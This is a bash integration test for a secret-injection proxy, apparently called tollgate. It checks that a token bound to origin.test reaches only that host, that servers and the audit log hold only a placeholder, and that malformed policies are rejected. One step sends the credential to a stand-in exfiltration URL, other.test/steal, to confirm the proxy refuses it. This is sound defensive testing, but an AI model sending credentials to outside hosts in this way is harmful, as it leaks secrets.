#!/usr/bin/env bash
# `tollgate wrap --secret NAME@HOST` (and the policy file's "secrets", and
# `serve --secret`): an MCP server of the test's own that reads its token
# from the environment, driven by the official SDK client, calls an HTTPS
# origin on loopback with its own CA (--upstream-ca) with Node's fetch. The
# origin gets the real value; the server's environment, what it is answered
# and the audit database hold only the placeholder; the placeholder sent to
# another host is refused secret-misdirected. The origin listens on 443 of
# this test's own network namespace (unshare -n): Node's fetch dials 443.
if [[ -z ${TOLLGATE_WRAP_SECRET_NETNS:-} ]]; then
	if [[ $(id -u) -ne 0 ]]; then echo "SKIP: needs root (namespaces)" >&2; exit 77; fi
	command -v unshare >/dev/null || { echo "SKIP: unshare(1)" >&2; exit 77; }
	exec unshare -n env TOLLGATE_WRAP_SECRET_NETNS=1 bash "$0" "$@"
fi
source "$(dirname "$0")/lib.sh"
source "$(dirname "$0")/proxy_lib.sh"
source "$(dirname "$0")/inspect_lib.sh"
source "$(dirname "$0")/mcp/setup.sh"

for tool in openssl sqlite3 ip python3; do
	command -v $tool >/dev/null || skip "$tool is not installed"
done
ip link set lo up

make_origin_pki
python3 "$TOLLGATE_SRC/tests/integration/inspect_origin.py" 443 "$ORIGIN_CERT" "$ORIGIN_KEY" \
	2>"$TEST_TMP/origin.log" &
defer "kill $! 2>/dev/null"
wait_for 10 port_open 443 || { fail "echo origin did not start"; finish; }

REAL=ghp_WrapRealValue0123456789abcdefQRSTU
export REAL_TOKEN=$REAL
DB=$TEST_TMP/audit.db
NET=(--allow origin.test --allow other.test --resolve origin.test:127.0.0.1
	--resolve other.test:127.0.0.1 --allow-cidr 127.0.0.1/32 --upstream-ca "$ORIGIN_CA"
	--inspect other.test)
py() { python3 -c "import json,sys; d=json.loads(sys.argv[1]); print($2)" "$1"; }

# ---- wrap --secret NAME=env:VAR@HOST ----------------------------------------------
set +e
out=$(cd "$MCP_DIR" && timeout 120 node client.mjs token \
	https://origin.test/echo-header/Authorization https://other.test/steal \
	https://origin.test/echo-header/Accept-Encoding https://origin.test/gzip -- \
	"$TOLLGATE" wrap --audit "$DB" --workdir "$MCP_DIR" "${NET[@]}" \
	--secret GH_TOKEN=env:REAL_TOKEN@origin.test -- node /work/token_server.mjs \
	2>"$TEST_TMP/err"); rc=$?
set -e
expect_eq "the SDK client's session ends cleanly" "$rc" 0
[[ $rc -eq 0 ]] || cat "$TEST_TMP/err" >&2
ph=$(py "$(step token)" 'd["text"]')
expect_match "the server's GH_TOKEN is a placeholder" "$ph" '^tgph_[a-z0-9]{35}$'
expect_match "the origin got the real value" \
	"$(grep 'REQ GET /echo-header/Authorization' "$TEST_TMP/origin.log" || true)" "auth=Bearer $REAL\$"
expect_eq "the origin's echo reaches the server as the placeholder" \
	"$(py "$(step call 1)" 'd["text"]')" "200 - Bearer $ph"
expect_match "the placeholder sent to another host is refused" \
	"$(py "$(step call 2)" 'd["text"]')" '^403 secret-misdirected'
expect_eq "a bound host is asked for identity (Node's fetch asked for gzip, br)" \
	"$(py "$(step call 3)" 'd["text"]')" "200 - identity"
expect_match "an encoded body from it is refused: it could hide an echoed value" \
	"$(py "$(step call 4)" 'd["text"]')" '^502 upstream-encoded'
expect_eq "the other host never saw it" "$(grep -c 'steal' "$TEST_TMP/origin.log" || true)" "0"
expect_match "the person is told on stderr, by the secret's name" "$(cat "$TEST_TMP/err")" \
	"secret GH_TOKEN went to other.test.*secret-misdirected"
expect_eq "the real value is not in what the client got" "$(grep -c "$REAL" <<<"$out" || true)" "0"
expect_eq "... nor on tollgate's stderr" "$(grep -c "$REAL" "$TEST_TMP/err" || true)" "0"
expect_eq "... nor in the audit database" "$(sqlite3 "$DB" .dump | grep -c "$REAL" || true)" "0"
expect_match "the injecting request's row names the secret" \
	"$(sqlite3 "$DB" "select json_extract(detail,'\$.secrets_injected') from events where kind='connection' and json_extract(detail,'\$.path')='/echo-header/Authorization'")" \
	"^GH_TOKEN$"
expect_eq "the refusal's row names the secret" \
	"$(audit_count "$DB" "reason='secret-misdirected' and detail like '%GH_TOKEN%'")" "1"

# ---- the policy file's "secrets" --------------------------------------------------
cat >"$TEST_TMP/policy.json" <<'JSON'
{"version": 1, "secrets": [{"name": "GH_TOKEN", "env": "REAL_TOKEN", "hosts": ["origin.test"]}]}
JSON
: >"$TEST_TMP/origin.log.mark"
set +e
out=$(cd "$MCP_DIR" && timeout 120 node client.mjs token https://origin.test/from-policy -- \
	"$TOLLGATE" wrap --audit "$DB" --workdir "$MCP_DIR" "${NET[@]}" \
	--policy "$TEST_TMP/policy.json" -- node /work/token_server.mjs 2>"$TEST_TMP/err"); rc=$?
set -e
expect_eq "wrap with a policy file's secret: the session ends cleanly" "$rc" 0
expect_match "its server holds a placeholder" "$(py "$(step token)" 'd["text"]')" '^tgph_[a-z0-9]{35}$'
expect_match "the origin got the real value" \
	"$(grep 'REQ GET /from-policy' "$TEST_TMP/origin.log" || true)" "auth=Bearer $REAL\$"

# ---- misuse: wrap takes bound secrets only ----------------------------------------
set +e
err=$("$TOLLGATE" wrap --secret GH_TOKEN=env:REAL_TOKEN -- true 2>&1 </dev/null); rc=$?
set -e
expect_eq "wrap --secret without @HOST exits 125" "$rc" 125
expect_match "and says why" "$err" '^tollgate: wrap: --secret: expected NAME@HOST'
printf '{"version": 1, "secrets": [{"name": "GH_TOKEN", "hosts": []}]}\n' >"$TEST_TMP/bad.json"
set +e
err=$("$TOLLGATE" wrap --policy "$TEST_TMP/bad.json" -- true 2>&1 </dev/null); rc=$?
set -e
expect_eq "a secret without hosts in a policy file exits 125" "$rc" 125
expect_match "and names file, line and column" "$err" 'bad.json:1:[0-9]+: .*"hosts": expected a non-empty array'

set +e
err=$("$TOLLGATE" proxy --listen 127.0.0.1:0 --audit "$TEST_TMP/proxy.db" \
	--policy "$TEST_TMP/policy.json" 2>&1 </dev/null); rc=$?
set -e
expect_eq "tollgate proxy with a policy file's secrets but no CA files exits 125" "$rc" 125
expect_match "and says the bound hosts need --inspect-ca" "$err" 'hosts of its "secrets"\) needs --inspect-ca'

# ---- serve --secret: every sandbox holds the placeholder ---------------------------
set +e
out=$(cd "$MCP_DIR" && timeout 120 node client.mjs code \
	'printf "ph:%s\n" "$GH_TOKEN"; curl -sS --max-time 20 -H "Authorization: Bearer $GH_TOKEN" https://origin.test/echo-header/Authorization' \
	-- "$TOLLGATE" serve --audit "$DB" "${NET[@]}" \
	--secret GH_TOKEN=env:REAL_TOKEN@origin.test 2>"$TEST_TMP/err"); rc=$?
set -e
expect_eq "serve --secret: the session ends cleanly" "$rc" 0
[[ $rc -eq 0 ]] || cat "$TEST_TMP/err" >&2
stdout=$(py "$(step code)" 'd["structured"]["stdout"]')
sph=$(sed -n 's/^ph://p' <<<"$stdout")
expect_match "serve's sandbox holds a placeholder" "$sph" '^tgph_[a-z0-9]{35}$'
expect_match "the origin's echo comes back as the placeholder" "$stdout" "Bearer $sph\$"
expect_eq "the origin got the real value from serve's sandbox" \
	"$(grep -c "REQ GET /echo-header/Authorization .*auth=Bearer $REAL\$" "$TEST_TMP/origin.log")" "2"
# A session's calls hold it too; execute_code cannot ask the vault for it by name.
set +e
out=$(cd "$MCP_DIR" && timeout 120 node client.mjs session-code 'printf "ph:%s\n" "$GH_TOKEN"' \
	-- "$TOLLGATE" serve --audit "$DB" "${NET[@]}" \
	--secret GH_TOKEN=env:REAL_TOKEN@origin.test 2>"$TEST_TMP/err"); rc=$?
set -e
expect_eq "serve --secret with a session: the client's session ends cleanly" "$rc" 0
expect_match "a session's call holds the placeholder" \
	"$(py "$(step code)" 'd["structured"]["stdout"]')" '^ph:tgph_[a-z0-9]{35}$'
set +e
out=$(cd "$MCP_DIR" && timeout 120 node client.mjs code-secrets GH_TOKEN -- \
	"$TOLLGATE" serve --audit "$DB" "${NET[@]}" \
	--secret GH_TOKEN=env:REAL_TOKEN@origin.test 2>"$TEST_TMP/err"); rc=$?
set -e
expect_match "execute_code naming a bound secret is refused" "$(step named)" \
	'"isError":true.*GH_TOKEN is bound to hosts by the operator'
expect_eq "the real value is not in the audit database" \
	"$(sqlite3 "$DB" .dump | grep -c "$REAL" || true)" "0"
finish
